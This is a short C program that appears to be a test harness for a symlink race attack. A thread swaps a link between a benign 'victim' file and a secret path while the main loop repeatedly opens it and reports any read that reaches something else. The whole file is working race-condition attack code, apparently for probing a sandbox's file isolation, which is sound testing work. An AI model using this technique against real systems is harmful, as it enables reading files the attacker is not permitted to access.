#include "attack.h"
#include <pthread.h>
static const char *lnk, *secret_g, *benign;
static volatile int stop;
static void *flip(void *a) {
    (void)a;
    char *tmp = cat2(lnk, ".tmp");
    for (int i = 0; !stop; i++) {
        unlink(tmp);
        symlink(i & 1 ? secret_g : benign, tmp);
        rename(tmp, lnk);
    }
    return 0;
}
int main(int argc, char **argv) {
    ARGS
    secret_g = secret;
    benign = cat2(ro, "/victim");
    lnk = cat2(rw, "/race");
    symlink(benign, lnk);
    pthread_t t;
    pthread_create(&t, 0, flip, 0);
    int opened = 0, fails = 0;
    char buf[256];
    for (int i = 0; i < 10000; i++) {
        int fd = open(lnk, O_RDONLY);
        if (fd < 0) { fails++; continue; }
        opened++;
        long n = read(fd, buf, sizeof buf - 1);
        if (n > 0) { buf[n] = 0; if (strncmp(buf, "victim", 6)) printf("READ something else: %s\n", buf); }
        close(fd);
    }
    stop = 1;
    pthread_join(t, 0);
    printf("opened %d, failed %d\n", opened, fails);
    return 0;
}
